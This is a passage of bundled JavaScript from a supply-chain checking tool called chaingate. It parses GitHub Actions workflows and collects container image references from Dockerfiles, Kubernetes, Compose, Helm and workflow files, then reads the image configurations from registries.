    else if (pair.key !== "outputs") trigger.filters.set(pair.key, stringList(ctx, pair.value));
  }
  return trigger;
}
function triggersOf(ctx, node) {
  if (isScalar(node)) {
    const text = strOf(ctx, node)?.value;
    return text ? [triggerOf(ctx, text, node, null)] : [];
  }
  if (isSeq(node)) {
    return items(ctx, node).flatMap((item) => {
      const text = isScalar(item) ? strOf(ctx, item)?.value : void 0;
      return text && isScalar(item) ? [triggerOf(ctx, text, item, null)] : [];
    });
  }
  return pairs(ctx, node).map((pair) => triggerOf(ctx, pair.key, pair.keyNode, pair.value));
}
var SHA = /^[0-9a-f]{40}$/i;
function parseUses(raw, node) {
  const uses = parseUsesText(raw);
  uses.node = node;
  return uses;
}
function parseUsesText(raw) {
  const value = raw.trim();
  const uses = { raw, kind: "invalid", name: value.toLowerCase(), pinned: false, reusableWorkflow: false };
  if (value.startsWith("./") || value.startsWith("$/")) {
    uses.kind = "local";
    if (value.startsWith("$/")) uses.selfRepository = true;
    const at2 = value.startsWith("$/") ? value.lastIndexOf("@") : -1;
    uses.path = (at2 > 0 ? value.slice(2, at2) : value.slice(2)).replace(/^\.\//, "");
    if (at2 > 0) uses.ref = value.slice(at2 + 1);
    uses.name = `./${uses.path}`.toLowerCase();
    uses.reusableWorkflow = /\.ya?ml$/i.test(uses.path);
    uses.pinned = true;
    return uses;
  }
  if (value.startsWith("docker://")) {
    uses.kind = "docker";
    uses.image = value.slice("docker://".length);
    uses.name = uses.image.toLowerCase();
    uses.pinned = /@sha256:[0-9a-f]{64}$/i.test(uses.image);
    return uses;
  }
  const at = value.lastIndexOf("@");
  if (at <= 0) return uses;
  const target2 = value.slice(0, at);
  const ref = value.slice(at + 1);
  const parts = target2.split("/");
  if (parts.length < 2 || !parts[0] || !parts[1] || !ref) return uses;
  uses.kind = "remote";
  uses.owner = parts[0];
  uses.repo = parts[1];
  if (parts.length > 2) uses.path = parts.slice(2).join("/");
  uses.ref = ref;
  uses.slug = `${parts[0]}/${parts[1]}`.toLowerCase();
  uses.name = target2.toLowerCase();
  uses.pinned = SHA.test(ref);
  uses.reusableWorkflow = /\/\.github\/workflows\/[^/]+\.ya?ml$/i.test(target2);
  return uses;
}
function usesOf(ctx, node) {
  const str2 = strOf(ctx, node);
  return str2 ? parseUses(str2.value, str2.node) : void 0;
}
function stepOf(ctx, node, index, job, action, defaultShell) {
  const fields = pairMap(ctx, node);
  const step = { index, node, with: EMPTY, env: EMPTY, job, action, effectiveShell: defaultShell };
  const id = strOf(ctx, fields.get("id")?.raw);
  if (id) step.id = id;
  const name = strOf(ctx, fields.get("name")?.raw);
  if (name) step.name = name;
  const condition = strOf(ctx, fields.get("if")?.raw);
  if (condition) step.if = condition;
  const uses = usesOf(ctx, fields.get("uses")?.raw);
  if (uses) step.uses = uses;
  step.with = valueEntries(ctx, fields.get("with")?.value);
  const run = strOf(ctx, fields.get("run")?.raw);
  if (run) step.run = run;
  const shell = strOf(ctx, fields.get("shell")?.raw);
  if (shell) {
    step.shell = shell;
    step.effectiveShell = shell.value;
  }
  step.env = envOf(ctx, fields.get("env")?.value);
  const workingDirectory = strOf(ctx, fields.get("working-directory")?.raw);
  if (workingDirectory) step.workingDirectory = workingDirectory;
  if (strOf(ctx, fields.get("background")?.raw)?.value === "true") step.background = true;
  const continueOnError = fields.get("continue-on-error")?.value;
  if (continueOnError) step.continueOnError = continueOnError;
  return step;
}
function stepNodes(ctx, node) {
  const out = [];
  for (const item of items(ctx, node)) {
    if (!isMap(item)) continue;
    const parallel = pairMap(ctx, item).get("parallel")?.value;
    if (parallel && isSeq(parallel)) {
      for (const member2 of items(ctx, parallel)) if (isMap(member2)) out.push({ node: member2, group: item });
    } else out.push({ node: item, group: null });
  }
  return out;
}
function withGroup(step, group) {
  if (group) step.parallelGroup = group;
  return step;
}
function defaultsOf(ctx, node) {
  const run = pairMap(ctx, pairMap(ctx, node).get("run")?.value);
  const out = {};
  const shell = strOf(ctx, run.get("shell")?.raw);
  if (shell) out.shell = shell;
  const workingDirectory = strOf(ctx, run.get("working-directory")?.raw);
  if (workingDirectory) out.workingDirectory = workingDirectory;
  return out;
}
function containerOf(ctx, node, name, raw = node) {
  const container = { node, env: EMPTY, ...name !== void 0 ? { name } : {} };
  if (isScalar(node)) {
    const image2 = strOf(ctx, raw);
    if (image2) container.image = image2;
    return container;
  }
  const fields = pairMap(ctx, node);
  const image = strOf(ctx, fields.get("image")?.raw);
  if (image) container.image = image;
  const credentials = fields.get("credentials");
  if (credentials?.value) {
    const creds = pairMap(ctx, credentials.value);
    container.credentials = { node: credentials.value };
    const username = strOf(ctx, creds.get("username")?.raw);
    if (username) container.credentials.username = username;
    const password = strOf(ctx, creds.get("password")?.raw);
    if (password) container.credentials.password = password;
  }
  container.env = envOf(ctx, fields.get("env")?.value);
  const options = strOf(ctx, fields.get("options")?.raw);
  if (options) container.options = options;
  return container;
}
function jobOf(ctx, workflow, pair) {
  const fields = pairMap(ctx, pair.value);
  const job = {
    id: pair.key,
    keyNode: pair.keyNode,
    node: pair.value,
    workflow,
    needs: [],
    services: [],
    outputs: EMPTY,
    env: EMPTY,
    defaults: {},
    with: EMPTY,
    steps: []
  };
  const name = strOf(ctx, fields.get("name")?.raw);
  if (name) job.name = name;
  const needs = fields.get("needs")?.value;
  job.needs = isSeq(needs) ? items(ctx, needs).flatMap((item) => strOf(ctx, item) ?? []) : [strOf(ctx, needs)].flatMap((s) => s ?? []);
  const condition = strOf(ctx, fields.get("if")?.raw);
  if (condition) job.if = condition;
  const runsOn = fields.get("runs-on");
  if (runsOn) {
    const value = runsOn.value;
    const labels = [];
    let group;
    if (isSeq(value)) labels.push(...items(ctx, value).flatMap((item) => strOf(ctx, item) ?? []));
    else if (isMap(value)) {
      const runner = pairMap(ctx, value);
      labels.push(...stringNodes(ctx, runner.get("labels")?.value));
      group = strOf(ctx, runner.get("group")?.raw);
    } else {
      const single = strOf(ctx, value);
      if (single) labels.push(single);
    }
    job.runsOn = { node: value, labels, ...group ? { group } : {} };
  }
  const container = fields.get("container")?.value;
  if (container) job.container = containerOf(ctx, container, void 0, fields.get("container")?.raw ?? container);
  for (const service of pairs(ctx, fields.get("services")?.value)) {
    if (service.value) job.services.push(containerOf(ctx, service.value, service.key, service.raw));
  }
  const environment = fields.get("environment")?.value;
  if (environment) {
    if (isMap(environment)) {
      const env = pairMap(ctx, environment);
      job.environment = { node: environment };
      const envName = strOf(ctx, env.get("name")?.raw);
      if (envName) job.environment.name = envName;
      const url = strOf(ctx, env.get("url")?.raw);
      if (url) job.environment.url = url;
      if (env.has("deployment")) job.environment.deployment = env.get("deployment")?.value ?? null;
    } else {
      const envName = strOf(ctx, environment);
      job.environment = { node: environment, ...envName ? { name: envName } : {} };
    }
  }
  job.outputs = valueEntries(ctx, fields.get("outputs")?.value);
  const strategy = fields.get("strategy")?.value;
  if (strategy) job.strategy = { node: strategy, matrix: pairMap(ctx, strategy).get("matrix")?.value ?? null };
  const permissions = permissionsOf(ctx, fields.get("permissions"));
  if (permissions) job.permissions = permissions;
  job.env = envOf(ctx, fields.get("env")?.value);
  job.defaults = defaultsOf(ctx, fields.get("defaults")?.value);
  const uses = usesOf(ctx, fields.get("uses")?.raw);
  if (uses) job.uses = uses;
  job.with = valueEntries(ctx, fields.get("with")?.value);
  const secrets = fields.get("secrets")?.value;
  if (secrets) {
    const inherit = strOf(ctx, secrets)?.value === "inherit";
    job.secrets = { node: secrets, inherit, entries: inherit ? /* @__PURE__ */ new Map() : valueEntries(ctx, secrets) };
  }
  const concurrency = fields.get("concurrency")?.value;
  if (concurrency) job.concurrency = concurrency;
  const shell = job.defaults.shell?.value ?? workflow.defaults.shell?.value ?? "bash";
  job.steps = stepNodes(ctx, fields.get("steps")?.value).map(({ node, group }, index) => withGroup(stepOf(ctx, node, index, job, null, shell), group));
  return job;
}
function stringNodes(ctx, node) {
  const resolved = deref2(ctx, node);
  if (isSeq(resolved)) return items(ctx, resolved).flatMap((item) => strOf(ctx, item) ?? []);
  const single = strOf(ctx, resolved);
  return single ? [single] : [];
}
function buildWorkflow(file) {
  const ctx = { text: file.text };
  const top = pairMap(ctx, file.doc.contents);
  const workflow = {
    kind: "workflow",
    path: file.path,
    file,
    triggers: [],
    env: envOf(ctx, top.get("env")?.value),
    defaults: defaultsOf(ctx, top.get("defaults")?.value),
    jobs: [],
    jobsById: /* @__PURE__ */ new Map()
  };
  const name = strOf(ctx, top.get("name")?.raw);
  if (name) workflow.name = name;
  const runName = strOf(ctx, top.get("run-name")?.raw);
  if (runName) workflow.runName = runName;
  const on = top.get("on") ?? top.get("true");
  if (on) {
    workflow.on = { keyNode: on.keyNode, node: on.value };
    workflow.triggers = triggersOf(ctx, on.value);
  }
  const permissions = permissionsOf(ctx, top.get("permissions"));
  if (permissions) workflow.permissions = permissions;
  const concurrency = top.get("concurrency")?.value;
  if (concurrency) workflow.concurrency = concurrency;
  const jobs = top.get("jobs");
  if (jobs) {
    workflow.jobsKey = jobs.keyNode;
    for (const pair of pairs(ctx, jobs.value)) {
      const job = jobOf(ctx, workflow, pair);
      workflow.jobs.push(job);
      if (!workflow.jobsById.has(job.id)) workflow.jobsById.set(job.id, job);
    }
  }
  return workflow;
}
function buildAction(file) {
  const ctx = { text: file.text };
  const top = pairMap(ctx, file.doc.contents);
  const action = {
    kind: "action",
    path: file.path,
    file,
    inputs: inputsOf(ctx, top.get("inputs")?.value),
    outputs: /* @__PURE__ */ new Map()
  };
  const name = strOf(ctx, top.get("name")?.raw);
  if (name) action.name = name;
  for (const pair of pairs(ctx, top.get("outputs")?.value)) {
    const value = isMap(pair.value) ? pairMap(ctx, pair.value).get("value")?.value ?? null : pair.value;
    action.outputs.set(pair.key, { name: pair.key, keyNode: pair.keyNode, node: value, value: strOf(ctx, value) ?? null });
  }
  const runsNode = top.get("runs")?.value;
  if (runsNode && isMap(runsNode)) {
    const runs = pairMap(ctx, runsNode);
    const using = strOf(ctx, runs.get("using")?.value);
    const lower2 = using?.value.toLowerCase() ?? "";
    const kind = lower2 === "composite" ? "composite" : lower2 === "docker" ? "docker" : /^node\d+$/.test(lower2) ? "javascript" : "unknown";
    action.runs = { node: runsNode, kind, steps: [], args: stringNodes(ctx, runs.get("args")?.value), env: envOf(ctx, runs.get("env")?.value) };
    if (using) action.runs.using = using;
    for (const key2 of ["image", "main", "pre", "post", "entrypoint"]) {
      const value = strOf(ctx, runs.get(key2)?.value);
      if (value) action.runs[key2] = value;
    }
    action.runs.steps = stepNodes(ctx, runs.get("steps")?.value).map(
      ({ node, group }, index) => withGroup(stepOf(ctx, node, index, null, action, "bash"), group)
    );
  }
  return action;
}
function allExpressionStrings(file) {
  const ctx = { text: file.text };
  const out = [];
  const visit = (node) => {
    if (isScalar(node)) {
      if (typeof node.value === "string" && node.value.includes("${{")) {
        const str2 = strOf(ctx, node);
        if (str2) out.push(str2);
      }
    } else if (isMap(node)) {
      for (const pair of node.items) visit(pair.value);
    } else if (isSeq(node)) {
      for (const item of node.items) visit(item);
    }
  };
  visit(file.doc.contents);
  return out;
}

// src/images/sources/workflow.ts
import path6 from "node:path";

// src/workflow/matrix.ts
function deref3(node) {
  return isAlias(node) ? node.resolve() : node ?? null;
}
function scalarText2(node) {
  return node.value === null || node.value === void 0 || typeof node.value === "object" ? null : String(node.value);
}
function matrixValues(job, key2) {
  const matrix = deref3(job.strategy?.matrix);
  if (!matrix) return [];
  if (!isMap(matrix)) return null;
  const want = key2.toLowerCase();
  const out = [];
  const take = (node) => {
    const value = deref3(node);
    if (isScalar(value)) {
      const text = scalarText2(value);
      if (text === null) return true;
      if (text.includes("${{")) return false;
      out.push({ value: text, node: value });
      return true;
    }
    if (isSeq(value)) {
      for (const item of value.items) {
        const resolved = deref3(item);
        if (isScalar(resolved)) {
          const text = scalarText2(resolved);
          if (text !== null && text.includes("${{")) return false;
          if (text !== null) out.push({ value: text, node: resolved });
        }
      }
      return true;
    }
    return true;
  };
  for (const pair of matrix.items) {
    const name = isScalar(pair.key) ? String(pair.key.value).toLowerCase() : "";
    if (name === "exclude") continue;
    if (name === "include") {
      const include = deref3(pair.value);
      if (!isSeq(include)) {
        if (isScalar(include) && String(include.value ?? "").includes("${{")) return null;
        continue;
      }
      for (const item of include.items) {
        const entry2 = deref3(item);
        if (!isMap(entry2)) {
          if (isScalar(entry2) && String(entry2.value ?? "").includes("${{")) return null;
          continue;
        }
        for (const field of entry2.items) if (isScalar(field.key) && String(field.key.value).toLowerCase() === want && !take(field.value)) return null;
      }
    } else if (name === want && !take(pair.value)) return null;
  }
  return out;
}

// src/images/sources/workflow.ts
function workflowImages(workflow) {
  const images = [];
  const add = (kind, context, str2, text = str2.value, job) => {
    const at = (node, skip = 0) => {
      const range = unquotedRange(node);
      const [start, end] = Array.isArray(range) ? range : range.range;
      return locate(workflow.file, [start + skip, end]);
    };
    const location = at(str2.node, str2.value.startsWith("docker://") ? "docker://".length : 0);
    const written = text.trim();
    if (str2.expressions.length > 0 && job) {
      const expanded = matrixImages(job, str2);
      if (expanded) {
        for (const { value, key: key2, matrixValue, node, whole } of expanded) {
          const parsed2 = parseImageRef(value);
          const base = { kind, context: `${context} (matrix.${key2} = ${matrixValue})`, location: whole ? at(node) : location, text: written, resolved: value };
          images.push(parsed2.ok ? { ...base, ref: parsed2.ref } : { ...base, unknown: `not a valid image reference: ${parsed2.reason}` });
        }
        return;
      }
    }
    if (str2.expressions.length > 0) {
      const shown = str2.expressions.map((expression) => `\${{ ${expression.body.trim()} }}`).join(", ");
      images.push({ kind, context, location, text: written, unknown: `the image is computed by ${shown}, whose values chaingate does not resolve` });
      return;
    }
    const parsed = parseImageRef(written);
    images.push(
      parsed.ok ? { kind, context, location, text: written, ref: parsed.ref } : { kind, context, location, text: written, unknown: `not a valid image reference: ${parsed.reason}` }
    );
  };
  for (const job of workflow.jobs) {
    if (job.container?.image && job.container.image.value.trim() !== "")
      add("workflow-container", `job ${job.id}: container`, job.container.image, void 0, job);
    for (const service of job.services) {
      if (service.image && service.image.value.trim() !== "")
        add("workflow-service", `job ${job.id}: service ${service.name ?? "?"}`, service.image, void 0, job);
    }
    for (const step of job.steps) {
      if (step.uses?.kind === "docker" && step.uses.image) {
        const str2 = { value: step.uses.raw, node: step.uses.node, expressions: [] };
        if (step.uses.raw.includes("${{")) continue;
        add("workflow-step", `job ${job.id}: step ${step.index + 1} (docker://)`, str2, step.uses.image);
      }
    }
  }
  return images;
}
function dockerActionImage(action) {
  const image = action.runs?.kind === "docker" ? action.runs.image : void 0;
  const written = image?.value.trim();
  if (!image || !written) return {};
  if (!written.startsWith("docker://")) {
    const dockerfile = workspacePath(path6.posix.dirname(action.path), written);
    return dockerfile === void 0 ? {} : { dockerfile };
  }
  const range = unquotedRange(image.node);
  const [start, end] = Array.isArray(range) ? range : range.range;
  const location = locate(action.file, [start + image.value.indexOf("docker://") + "docker://".length, end]);
  const text = written.slice("docker://".length);
  const base = { kind: "docker-action", context: `Docker action ${action.name?.value ?? action.path}`, location, text };
  if (image.expressions.length > 0) return { image: { ...base, unknown: "the image is computed by an expression, which chaingate does not resolve" } };
  const parsed = parseImageRef(text);
  return { image: parsed.ok ? { ...base, ref: parsed.ref } : { ...base, unknown: `not a valid image reference: ${parsed.reason}` } };
}
var MATRIX_KEY = /^\s*matrix\s*(?:\.\s*([A-Za-z_][A-Za-z0-9_-]*)|\[\s*'([^']+)'\s*\])\s*$/;
function matrixImages(job, str2) {
  const keys = /* @__PURE__ */ new Set();
  for (const expression of str2.expressions) {
    const match2 = MATRIX_KEY.exec(expression.body);
    if (!match2 || !expression.terminated) return null;
    keys.add(match2[1] ?? match2[2]);
  }
  if (keys.size !== 1) return null;
  const [key2] = [...keys];
  const values = matrixValues(job, key2);
  if (!values || values.length === 0) return null;
  const whole = str2.expressions.length === 1 && str2.value.trim() === str2.value.slice(str2.expressions[0].valueStart, str2.expressions[0].valueEnd);
  const seen = /* @__PURE__ */ new Set();
  const out = [];
  for (const { value, node } of values) {
    let text = "";
    let last = 0;
    for (const expression of str2.expressions) {
      text += str2.value.slice(last, expression.valueStart) + value;
      last = expression.valueEnd;
    }
    text = (text + str2.value.slice(last)).trim();
    if (text === "" || seen.has(text)) continue;
    seen.add(text);
    out.push({ value: text, key: key2, matrixValue: value, node, whole });
  }
  return out;
}

// src/images/sources/index.ts
var MAX_DOCKERFILE_BYTES = 1024 * 1024;
var MAX_MANIFEST_BYTES = 4 * 1024 * 1024;
var CONTAINER_TEXT = /\b(?:container|services)\s*:|docker:\/\//;
var DOCKER_ACTION_TEXT = /\busing\s*:\s*["']?docker\b/i;
var NOT_A_DOCKERFILE = /\.(?:md|markdown|txt|rst|adoc|html?|dockerignore|go|ts|tsx|js|mjs|cjs|py|rb|rs|java|kt|scala|cs|c|h|cc|cpp|php|pl|lua|sh|bash|ps1|bat|cmd|json|ya?ml|toml|xml|ini|cfg|conf|lock|orig|rej|bak|swp|patch|diff|tmpl|tpl|template|j2|jinja2?|erb|in|gotmpl|mustache|hbs|m4|sample|example|rego)$/i;
function isDockerfileName(relative) {
  const base = relative.slice(relative.lastIndexOf("/") + 1);
  if (/^(?:Dockerfile|Containerfile)$/i.test(base)) return true;
  if (NOT_A_DOCKERFILE.test(base)) return false;
  return /^(?:Dockerfile|Containerfile)[._-].+$/i.test(base) || /\.(?:Dockerfile|Containerfile)$/i.test(base);
}
async function collectImageSources(workspace, pushed = [], options = {}) {
  const result = {
    images: [],
    problems: [],
    files: { dockerfiles: [], manifests: [], workflows: [], compose: [], kustomizations: [], actions: [], charts: [] }
  };
  const ignored = workspace.isIgnored;
  const all = workspace.files();
  const known2 = new Set(all);
  const present = (test) => !options.dockerfilesOnly && all.some((relative) => test(relative) && !ignored(relative));
  const compose = present(isComposeName) ? await import("./compose-I6NCI55U.js") : void 0;
  const kustomize = present(isKustomizationName) ? await import("./kustomize-RPCNI7JL.js") : void 0;
  const helm = present((relative) => isChartValues(relative, known2)) ? await import("./helm-KQG2TR2K.js") : void 0;
  const readYaml = (relative) => workspace.readText(relative, MAX_MANIFEST_BYTES, { cache: false });
  const readDockerfile = async (relative) => {
    const read = workspace.readText(relative, MAX_DOCKERFILE_BYTES, { cache: false });
    if (!read.ok) {
      result.problems.push({ path: relative, kind: "dockerfile-from", message: `cannot read: ${read.reason}` });
      return;
    }
    result.files.dockerfiles.push(relative);
    const { dockerfileImages } = await import("./dockerfile-PBU555AC.js");
    result.images.push(...dockerfileImages(relative, read.text));
  };
  const builds = [];
  const textOf = (relative) => {
    const read = workspace.readText(relative, MAX_MANIFEST_BYTES, { cache: false });
    return read.ok ? read.text : void 0;
  };
  const readCompose = (reader, relative, vars, merged = {}) => {
    if (result.files.compose.includes(relative)) return;
    const read = readYaml(relative);
    if (!read.ok || !/^(?:services|include)\s*:/m.test(read.text)) return;
    result.files.compose.push(relative);
    const folder = path7.posix.dirname(relative);
    const inFolder = (name) => path7.posix.normalize(path7.posix.join(folder, name));
    let stack = [];
    if (!vars) {
      vars = reader.envFileVariables(textOf(inFolder(".env")));
      const named2 = vars.get("COMPOSE_FILE");
      const first = (names) => names.map(inFolder).filter((candidate) => known2.has(candidate) && !ignored(candidate)).slice(0, 1);
      stack = named2 ? named2.split(vars.get("COMPOSE_PATH_SEPARATOR") || ":").map(inFolder) : [...first(COMPOSE_FILES), ...first(COMPOSE_OVERRIDES)];
    }
    const services = (other2) => {
      const text = readYaml(other2);
      return text.ok ? reader.composeServices(other2, text.text) : /* @__PURE__ */ new Map();
    };
    const position = (member2, members = stack) => {
      const at = members.indexOf(member2);
      return at < 0 ? {} : { earlier: members.slice(0, at).map(services), later: members.slice(at + 1).map(services) };
    };
    const other = (file) => known2.has(file) && !ignored(file) ? textOf(file) : void 0;
    const found = reader.composeImages(relative, read.text, vars, stack.length > 0 ? position(relative) : merged, other);
    result.images.push(...found.images);
    result.problems.push(...found.problems);
    builds.push(...found.dockerfiles);
    const follow = (other2) => known2.has(other2) && !ignored(other2) && !isComposeName(other2);
    if (stack.includes(relative)) {
      for (const member2 of stack) if (follow(member2)) readCompose(reader, member2, vars, position(member2));
    }
    for (const { path: other2, envFiles, stack: included } of found.included) {
      if (!follow(other2)) continue;
      let own = vars;
      for (const envFile of envFiles) own = reader.envFileVariables(textOf(envFile), own);
      readCompose(reader, other2, own, position(other2, included));
    }
    for (const other2 of found.referenced) if (follow(other2)) readCompose(reader, other2, vars);
  };
  const kustomized = kustomize?.kustomizeImages(known2, readYaml, ignored);
  if (kustomized) result.problems.push(...kustomized.problems);
  for (const relative of all) {
    if (ignored(relative)) continue;
    if (isDockerfileName(relative)) await readDockerfile(relative);
    else if (options.dockerfilesOnly) continue;
    else if (isKustomizationName(relative)) result.files.kustomizations.push(relative);
    else if (compose && isComposeName(relative)) readCompose(compose, relative);
    else if (helm && isChartValues(relative, known2)) {
      result.files.charts.push(relative);
      if (isVendoredSubchart(path7.posix.dirname(relative), known2)) continue;
      const folder = path7.posix.dirname(relative);
      const archived = await chartArchives(workspace, folder, all, ignored, result);
      const found = helm.helmChartImages(folder, {
        read: (file) => archived.get(file) ?? (known2.has(file) && !ignored(file) ? textOf(file) : void 0),
        paths: archived.size > 0 ? [...all, ...archived.keys()] : all
      });
      result.images.push(...found.images);
      result.problems.push(...found.problems);
    } else if (/\.ya?ml$/i.test(relative) && !relative.startsWith(".github/")) {
      const read = readYaml(relative);
      if (!read.ok || !looksLikeManifest(relative, read.text)) continue;
      result.files.manifests.push(relative);
      if (kustomized?.listed.has(relative)) continue;
      const found = kubernetesImages(relative, read.text);
      result.images.push(...found.images);
      result.problems.push(...found.problems.map((problem) => ({ ...problem, kind: "kubernetes" })));
    }
  }
  if (options.dockerfilesOnly) return result;
  if (kustomized) result.images.push(...kustomized.images);
  const actions = [];
  for (const { path: file, kind } of listWorkflowFiles(workspace, ignored)) {
    const read = workspace.readText(file, MAX_WORKFLOW_BYTES);
    if (!read.ok || !(kind === "workflow" ? CONTAINER_TEXT : DOCKER_ACTION_TEXT).test(read.text)) continue;
    const parsed = parseWorkflowText(file, kind, read.text);
    if (!parsed.ok) {
      const { line, column } = parsed.failure;
      result.problems.push({
        path: file,
        kind: kind === "workflow" ? "workflow-container" : "docker-action",
        message: `${kind} does not parse: ${parsed.failure.message}`,
        location: { path: file, startLine: line, startColumn: column, endLine: line, endColumn: column }
      });
      continue;
    }
    if (kind === "action") {
      actions.push(buildAction(Object.assign(parsed.file, { kind })));
      continue;
    }
    result.files.workflows.push(file);
    result.images.push(...workflowImages(buildWorkflow(Object.assign(parsed.file, { kind: "workflow" }))));
  }
  for (const action of actions) {
    const { image, dockerfile } = dockerActionImage(action);
    if (!image && !dockerfile) continue;
    result.files.actions.push(action.path);
    if (image) result.images.push(image);
    if (dockerfile) builds.push(dockerfile);
  }
  for (const dockerfile of new Set(builds)) {
    if (known2.has(dockerfile) && !isDockerfileName(dockerfile) && !ignored(dockerfile) && !result.files.dockerfiles.includes(dockerfile))
      await readDockerfile(dockerfile);
  }
  for (const text of pushed) result.images.push(pushedImage(text, options.platform));
  return result;
}
async function chartArchives(workspace, folder, all, ignored, result) {
  const files = /* @__PURE__ */ new Map();
  const prefix = folder === "." ? "" : `${folder}/`;
  const archives = all.filter((file) => file.startsWith(prefix) && /(?:^|\/)charts\/[^/]+\.tgz$/.test(file.slice(prefix.length)) && !ignored(file));
  if (archives.length === 0) return files;
  const { readChartArchive, MAX_ARCHIVE_BYTES } = await import("./helm-archive-CE3C3XXQ.js");
  for (const archive of archives) {
    let read;
    try {
      const absolute = workspace.resolve(archive);
      const size = sources_default.statSync(absolute).size;
      read = size > MAX_ARCHIVE_BYTES ? { ok: false, reason: `the archive is larger than the ${MAX_ARCHIVE_BYTES / 1024 / 1024} MiB chaingate reads` } : await readChartArchive(sources_default.readFileSync(absolute), archive);
    } catch (error) {
      read = { ok: false, reason: error.message };
    }
    if (read.ok) for (const [file, text] of read.files) files.set(file, text);
    else result.problems.push({ path: archive, kind: "helm-values", message: `cannot read the chart archive: ${read.reason}` });
  }
  return files;
}
function pushedImage(text, platform) {
  const written = text.trim();
  const base = { kind: "pushed", context: "pushed image", text: written, ...platform ? { platform } : {} };
  if (/^(?:oci|docker-archive):/.test(written))
    return {
      ...base,
      unknown: "a local image (an OCI layout or a docker save archive), not a registry reference: its registry, digest and age are not known (vulnerable-dependencies judges its packages)"
    };
  const parsed = parseImageRef(written.replace(/^docker:\/\//, ""));
  return parsed.ok ? { ...base, ref: parsed.ref } : { ...base, unknown: `not a valid image reference: ${parsed.reason}` };
}
var imageSourcesFact = defineFact(
  "images.sources",
  async (ctx) => known(await collectImageSources(ctx.workspace, ctx.images?.pushed ?? [], ctx.images?.platform ? { platform: ctx.images.platform } : {}))
);
var dockerfileSourcesFact = defineFact(
  "images.dockerfile-sources",
  async (ctx) => known(await collectImageSources(ctx.workspace, [], { dockerfilesOnly: true }))
);

// src/images/sources/groups.ts
var SOURCE_GROUPS = ["dockerfile", "kubernetes", "workflow", "compose", "helm-values", "pushed"];
var GROUP_OF = {
  "dockerfile-from": "dockerfile",
  "dockerfile-copy": "dockerfile",
  "dockerfile-mount": "dockerfile",
  "dockerfile-syntax": "dockerfile",
  kubernetes: "kubernetes",
  kustomize: "kubernetes",
  "workflow-container": "workflow",
  "workflow-service": "workflow",
  "workflow-step": "workflow",
  "docker-action": "workflow",
  compose: "compose",
  "helm-values": "helm-values",
  pushed: "pushed"
};
function normalGroups(groups) {
  return SOURCE_GROUPS.filter((group) => groups.includes(group));
}
function beyondDockerfiles(groups) {
  return groups.some((group) => group !== "dockerfile");
}
function imagesOf(sources, groups) {
  return sources.images.filter((image) => groups.includes(GROUP_OF[image.kind]));
}
function factPerGroups(base, make) {
  const made = /* @__PURE__ */ new Map();
  return (groups) => {
    const normal = normalGroups(groups);
    const id = normal.length === 1 && normal[0] === "dockerfile" ? base : `${base}(${normal.join(",")})`;
    let def = made.get(id);
    if (!def) {
      def = make(id, normal);
      made.set(id, def);
    }
    return def;
  };
}

// src/images/sources/config.ts
var DEFAULT_PLATFORM = "linux/amd64";
var MAX_CONFIG_BYTES = 4 * 1024 * 1024;
var CONCURRENCY = 4;
function configKey(ref, platform) {
  return `${ref.canonical} ${platform}`;
}
function platformFor(source) {
  if (source.platform && /^[a-z0-9_.-]+\/[a-z0-9_.-]+(?:\/[a-z0-9_.-]+)?$/i.test(source.platform))
    return { platform: source.platform.toLowerCase(), source: "written" };
  return { platform: DEFAULT_PLATFORM, source: "default" };
}
var OFFLINE_REASON = "the run is offline (--offline): no registry is contacted, so the base image configuration is not read";
var OFFLINE_IMAGES_REASON = "the run is offline (--offline): no registry is contacted, so the image configurations are not read";
async function wantedImages(ctx, groups) {
  const sources = await ctx.get(beyondDockerfiles(groups) ? imageSourcesFact : dockerfileSourcesFact);
  if (!sources.known) return sources;
  const wanted = /* @__PURE__ */ new Map();
  for (const image of imagesOf(sources.value, groups)) {
    if (!image.ref) continue;
    const { platform, source } = platformFor(image);
    const key2 = configKey(image.ref, platform);
    if (!wanted.has(key2)) wanted.set(key2, { ref: image.ref, platform, platformSource: source });
  }
  return known(wanted);
}
var imageConfigsFactFor = factPerGroups(
  "images.base-configs",
  (id, groups) => defineFact(id, async (ctx) => {
    const registries = ctx.registries;
    if (!registries || registries.offline) return unknownFact("not-available", beyondDockerfiles(groups) ? OFFLINE_IMAGES_REASON : OFFLINE_REASON);
    const wanted = await wantedImages(ctx, groups);
    if (!wanted.known) return wanted;
    const byRepository = /* @__PURE__ */ new Map();
    for (const entry2 of wanted.value.entries()) {
      const list = byRepository.get(entry2[1].ref.apiName) ?? [];
      list.push(entry2);
      byRepository.set(entry2[1].ref.apiName, list);
    }
    const results = /* @__PURE__ */ new Map();
    const queue = [...byRepository.values()];
    const worker = async () => {
      for (let next = queue.shift(); next; next = queue.shift()) {
        for (const [key2, item] of next) results.set(key2, await readConfig(registries, item));
      }
    };
    await Promise.all(Array.from({ length: Math.min(CONCURRENCY, queue.length) }, worker));
    return known({ results });
  })
);
var imageConfigsFact = imageConfigsFactFor(["dockerfile"]);
function pickPlatform(manifests, platform) {
  const [os, architecture, variant] = platform.split("/");
  const wanted = variantOf(architecture, variant);
  return manifests.find((entry2) => {
    const p = entry2.platform;
    if (!p || p.os !== os || p.architecture !== architecture || entry2.annotations?.["vnd.docker.reference.type"] !== void 0) return false;
    return variantOf(architecture, typeof p.variant === "string" ? p.variant : void 0) === wanted;
  }) ?? manifests.find((entry2) => !entry2.platform && typeof entry2.mediaType === "string" && INDEX_TYPES.includes(entry2.mediaType));
}
var INDEX_TYPES = ["application/vnd.oci.image.index.v1+json", "application/vnd.docker.distribution.manifest.list.v2+json"];
async function readConfig(registries, { ref, platform, platformSource }) {
  const shown = `${ref.registry}/${ref.repository}`;
  try {
    const reader = (await registries.pool()).reader(ref.apiName, await registries.credentials(ref.apiName));
    let manifest = await reader.manifest(ref.digest ?? ref.tag ?? "latest");
    if (!manifest) return { ok: false, reason: `${ref.canonical} is not in the registry (404)` };
    for (let depth = 0; depth < 4 && Array.isArray(manifest.body.manifests); depth += 1) {
      const list = manifest.body.manifests;
      const entry2 = pickPlatform(list, platform);
      if (!entry2 || typeof entry2.digest !== "string") {
        const offered = list.map((item) => [item.platform?.os, item.platform?.architecture, item.platform?.variant].filter((part) => typeof part === "string").join("/")).filter((name) => name !== "" && name !== "unknown/unknown");
        return { ok: false, reason: `${ref.canonical} has no ${platform} image (the index lists ${offered.length > 0 ? offered.join(", ") : "no platform"})` };
      }
      manifest = await reader.manifest(entry2.digest);
      if (!manifest) return { ok: false, reason: `${shown}@${entry2.digest} (${platform}) is listed by the index but not in the registry` };
    }
    if (manifest.body.schemaVersion === 1)
      return {
